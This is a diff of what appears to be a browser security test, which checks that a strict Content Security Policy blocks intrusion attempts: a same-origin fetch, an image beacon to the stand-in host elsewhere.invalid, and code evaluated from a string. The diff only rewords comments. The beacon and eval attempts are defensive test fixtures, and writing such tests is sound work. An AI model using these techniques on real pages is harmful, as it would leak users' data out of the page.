@@ -9,7 +9,7 @@ const policy = (styles: string): string =>
   `default-src 'none'; script-src 'self' '${prebootHash}'; style-src 'self' '${styles}'; img-src 'self'; manifest-src 'self'; worker-src 'self'; connect-src 'none'; `
   + "form-action 'none'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types sw";
 
-/** What someone who got into the page might try, and the browser must refuse. */
+/** What an intruder in the page might try, and the browser must refuse. */
 const attempts: Readonly<Record<string, () => unknown>> = {
   'ask its own host for something': () => fetch('./index.html'),
   'send something away by a picture': () =>
@@ -18,7 +18,7 @@ const attempts: Readonly<Record<string, () => unknown>> = {
       [picture.onload, picture.onerror] = [sent, failed];
       picture.src = 'https://elsewhere.invalid/?case';
     }),
-  // In a task of the page's own: what a tool evaluates is let through.
+  // In a task of the page itself, because code evaluated by a tool is allowed.
   'make code of a text': () =>
     new Promise((made, failed) => {
       setTimeout(() => {
